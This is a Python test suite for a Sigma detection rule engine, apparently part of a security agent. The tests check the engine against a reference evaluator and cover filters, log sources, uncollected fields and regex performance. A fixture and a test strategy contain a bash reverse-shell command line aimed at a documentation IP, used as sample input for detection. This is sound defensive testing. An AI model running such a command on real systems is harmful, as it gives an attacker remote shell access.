"""The engine and the plain evaluator agree, on events made around every rule's literals."""

import random
from collections.abc import Iterable, Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.sense.match.sigma import GROUPS_MAX, RuleEngine
from agent.sense.match.sigmaevent import FieldValue, SigmaEvent
from collector.content.sigma import compile_rules
from collector.content.sigmayaml import SourceFile, source_files
from proto.content.errors import ContentDamaged
from proto.content.rules import Operator, Predicate, RuleSource
from tests.agent.sense.match.sigma_reference import EventMaker, ReferenceRule, reference_rules
from tests.collector.content.rulesources import OWN, a_rule, compiled, own, published
from tests.proto.content.rulebuilders import LINUX_PROCESS, a_rule_set

SHELL: dict[str, FieldValue] = {
    "Image": "/usr/bin/Bash",
    "CommandLine": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "ParentImage": "/usr/sbin/nginx",
    "User": "www-data",
}


def matched(engine: RuleEngine, event: SigmaEvent) -> set[str]:
    return {found.rule.id for found in engine.match(event)}


def an_event(fields: Mapping[str, FieldValue], unknown: Iterable[str] = ()) -> SigmaEvent:
    return SigmaEvent((LINUX_PROCESS,), fields, frozenset(unknown))


def an_engine(detection: str, condition: str = "sel") -> RuleEngine:
    made = compiled(a_rule(detection, condition))
    assert made.reports == ()
    return RuleEngine(made.rules)


# --------------------------------------------------------------------------------- agreement


def disagreements(
    files: list[SourceFile], *, events: int, others: int, seed: int = 7
) -> list[tuple[str, dict[str, FieldValue]]]:
    """Return rules and events on which the two do not agree.

    Each rule judges the events made around it, and so do ``others`` of the same log source.
    """
    engine = RuleEngine(compile_rules(files, {}).rules)
    reference = reference_rules(files)
    maker, dice = EventMaker(seed), random.Random(seed)
    peers: dict[RuleSource, list[ReferenceRule]] = {}
    for rule in engine.rules.rules:
        peers.setdefault(rule.source, []).append(reference[rule.id])
    wrong = []
    for rule in engine.rules.rules:
        near = peers[rule.source]
        for fields in maker.events(reference[rule.id], events):
            event = SigmaEvent((rule.source,), fields, _hidden(dice, fields))
            known = {name: value for name, value in fields.items() if name not in event.unknown}
            said = matched(engine, SigmaEvent(event.sources, known, event.unknown))
            asked = {rule.id: reference[rule.id]}
            asked |= {one.id: one for one in dice.sample(near, min(others, len(near)))}
            asked |= {name: reference[name] for name in said}
            wrong += [
                (name, fields)
                for name, one in asked.items()
                if one.alerts(known, event.unknown) is not (name in said)
            ]
    return wrong


def _hidden(dice: random.Random, fields: dict[str, FieldValue]) -> frozenset[str]:
    """Return a field that nobody collected, in some events."""
    if not fields or dice.random() < 0.8:
        return frozenset()
    return frozenset({dice.choice(sorted(fields))})


def test_engine_and_reference_agree_on_the_rules_of_the_tree() -> None:
    assert disagreements(list(source_files(OWN)), events=200, others=3) == []


def test_engine_and_reference_agree_on_every_published_linux_rule() -> None:
    assert disagreements(list(source_files(published() / "linux")), events=6, others=8) == []


@pytest.mark.slow
def test_engine_and_reference_agree_on_every_published_rule() -> None:
    assert disagreements(list(source_files(published())), events=4, others=4) == []


NAMES = [
    "Image",
    "CommandLine",
    "ParentImage",
    "User",
    "UtcTime",
    "Extra",
    "Marker",
    "DestinationIp",
]
TEXTS = st.one_of(
    st.sampled_from(
        ["/bin/sh", "bash -i >& /dev/tcp/x", "0>&1", "prober", "Root", "root", "2024-01-01"]
    ),
    st.text(max_size=12),
)
VALUES = st.one_of(
    st.none(), TEXTS, st.integers(0, 5000), st.booleans(), st.lists(TEXTS, max_size=3)
)


@given(
    st.dictionaries(st.sampled_from(NAMES), VALUES),
    st.frozensets(st.sampled_from(NAMES), max_size=3),
)
def test_engine_and_reference_agree_on_any_event(
    fields: dict[str, FieldValue], unknown: frozenset[str]
) -> None:
    known = {name: value for name, value in fields.items() if name not in unknown}

    said = matched(ENGINE, SigmaEvent((LINUX_PROCESS,), known, unknown))

    wanted = {name for name, rule in REFERENCE.items() if rule.alerts(known, unknown)}
    assert said == {name for name in wanted if REFERENCE[name].source.category}


ENGINE = RuleEngine(own().rules)
REFERENCE = reference_rules(source_files(OWN))


# ------------------------------------------------------------------------------ what is told


def test_a_match_names_the_fields_by_which_it_matched() -> None:
    (found,) = ENGINE.match(an_event(SHELL))

    assert found.rule.title == "Shell With Its Streams On A Socket"
    assert found.fields == {"Image": SHELL["Image"], "CommandLine": SHELL["CommandLine"]}


def test_a_filter_takes_out_what_it_knows() -> None:
    assert ENGINE.match(an_event({**SHELL, "User": "Prober"})) == []


def test_an_event_goes_to_rules_of_its_log_source_alone() -> None:
    assert ENGINE.match(SigmaEvent((RuleSource("windows", "process_creation"),), SHELL)) == []
    assert ENGINE.match(SigmaEvent((RuleSource("linux", "file_event"),), SHELL)) == []


def test_an_event_of_several_sources_goes_to_the_rules_of_each() -> None:
    engine = RuleEngine(own().rules)
    sources = (RuleSource("linux", "", "sshd"), LINUX_PROCESS)
    fields = {**SHELL, "message": "Bad protocol VERSION identification"}

    assert len(engine.match(SigmaEvent(sources, fields))) == 2
    assert len(engine.match(SigmaEvent((), fields))) == 2
    assert engine.prepare((), frozenset()) == 3


def test_a_rule_whose_exception_was_not_looked_at_does_not_alert() -> None:
    assert ENGINE.match(an_event(SHELL, ["User"])) == []
    without: dict[str, FieldValue] = {
        name: value for name, value in SHELL.items() if name != "ParentImage"
    }
    assert ENGINE.match(an_event(without)) != []
    assert ENGINE.match(an_event(without, ["ParentImage"])) == []


def test_null_is_not_the_same_as_not_collected() -> None:
    engine = an_engine("  sel:\n    Image|endswith: /x\n    ParentImage: null")

    assert engine.match(an_event({"Image": "/x"})) != []
    assert engine.match(an_event({"Image": "/x", "ParentImage": None})) != []
    assert engine.match(an_event({"Image": "/x"}, ["ParentImage"])) == []


def test_what_is_no_text_on_the_host_is_judged_all_the_same() -> None:
    engine = an_engine("  sel:\n    CommandLine|contains: evil\n    Image|re: 'a.c$'")

    assert engine.match(an_event({"CommandLine": "\udcff evil", "Image": ["\udc80abc"]})) != []


def test_a_long_value_is_searched_to_its_end() -> None:
    engine = an_engine("  sel:\n    CommandLine|endswith: the-end\n    Image|startswith: begin")

    for size in (8190, 8191, 8192, 16_383, 65_536):
        fields = {"CommandLine": "x" * size + "the-END", "Image": "BEGIN" + "x" * size}
        assert engine.match(an_event(fields)) != []


def test_a_rule_without_any_literal_is_judged_on_every_event() -> None:
    engine = an_engine("  sel:\n    DestinationPort|gt: 1000")

    assert engine.candidates(an_event({"DestinationPort": 5})) == 1
    assert engine.match(an_event({"DestinationPort": 5})) == []
    assert engine.match(an_event({"DestinationPort": "4444"})) != []


def test_an_expression_that_would_hang_another_engine_is_quick() -> None:
    engine = an_engine("  sel:\n    CommandLine|re: '(a+)+$'")

    assert engine.match(an_event({"CommandLine": "a" * 60_000 + "b"})) == []


def test_an_expression_that_is_none_is_known_before_anything_is_judged() -> None:
    with pytest.raises(ContentDamaged):
        RuleEngine(a_rule_set([Predicate("Image", Operator.REGEX, ("(",), cased=True)]))
    with pytest.raises(ContentDamaged):
        RuleEngine(a_rule_set([Predicate("Image", Operator.CIDR, ("300.0.0.0/8",))]))


def test_kinds_of_events_that_are_kept_ready_have_a_limit() -> None:
    engine = RuleEngine(own().rules)

    for at in range(GROUPS_MAX + 5):
        assert engine.match(an_event(SHELL, [f"Field{at}"])) != []
